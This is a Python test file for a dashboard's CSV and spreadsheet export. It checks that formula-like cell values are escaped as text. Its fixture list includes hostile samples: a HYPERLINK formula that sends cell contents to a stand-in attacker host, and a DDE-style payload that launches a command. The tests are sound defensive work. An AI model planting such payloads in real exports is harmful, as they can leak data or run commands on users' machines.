"""Formula injection: every CSV and spreadsheet the dashboard writes keeps text as text and numbers as numbers."""
from __future__ import annotations

import csv
import io
import re

import pytest

from dashboard import export_cells
from layouts.review import DEPARTMENT_COLUMNS, department_csv
from tests.support import PROJECT

FORMULA_LIKE = (
    "=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+1", "-1+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\tplain",
    "\r=1", "\n=1", "\0=1", "  =1+1", "\u3000=1", "＝1+1", "＋1", "－1", "＠A1", "-", "+", "=",
)
PLAIN = ("城管局", "A01", "W00012", "1", "-2", "+3", "-2.5", "1e5", "", "a=b", "a-b", "x@y", "'=1", "'quoted")


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_recognised(text):
    assert export_cells.is_formula_like(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_plain_numbers_are_left_alone(text):
    assert not export_cells.is_formula_like(text)


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # a byte-order mark: spreadsheet programs read the Chinese
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_cells_the_owasp_way():
    rows = [["name", "count", "rate", "none"], [FORMULA_LIKE[1], -3, -0.25, None], ["城管局", 7, 0.5, None], ["-2", 0, 1e-7, None]]
    table = read_csv(export_cells.csv_text(rows))
    assert table[1] == ["'" + FORMULA_LIKE[1], "-3", "-0.25", ""]
    assert table[2] == ["城管局", "7", "0.5", ""]
    assert table[3] == ["-2", "0", "1e-07", ""]
    assert float(table[3][2]) == 1e-7


def test_the_department_csv_writes_hostile_names_as_text():
    numbers = {field: -1.5 for field, _, kind in DEPARTMENT_COLUMNS if kind}
    rows = [{**numbers, "name": text, "grade": "=B1"} for text in FORMULA_LIKE]
    table = read_csv(department_csv(rows, "zh"))
    fields = [field for field, _, _ in DEPARTMENT_COLUMNS]
    for line, text in zip(table[1:], FORMULA_LIKE):
        cells = dict(zip(fields, line))
        assert cells["name"] == "'" + text and cells["grade"] == "'=B1"
        assert all(float(cells[field]) == -1.5 for field in numbers)


# Every writer of CSV or spreadsheet cells in the web application goes through dashboard/export_cells.py.
WRITERS = {
    "csv writer": re.compile(r"csv\.(writer|DictWriter)\("),
    "pandas export": re.compile(r"\.to_(csv|excel)\("),
    "openpyxl cell value": re.compile(r"\.cell\([^)]*value\s*="),
    "openpyxl cell assignment": re.compile(r"\w\[[\"'][A-Z]+[0-9]+[\"']\]\s*=(?!=)"),
    "cell .value assignment": re.compile(r"\.value\s*=(?!=)"),
}


def test_no_module_writes_export_cells_by_itself():
    sources = [path for folder in ("dashboard", "layouts", "callbacks") for path in (PROJECT / folder).rglob("*.py")]
    found = [f"{path.relative_to(PROJECT)}: {what}" for path in sources if path.name != "export_cells.py"
             for what, pattern in WRITERS.items() if pattern.search(path.read_text(encoding="utf-8"))]
    assert found == []
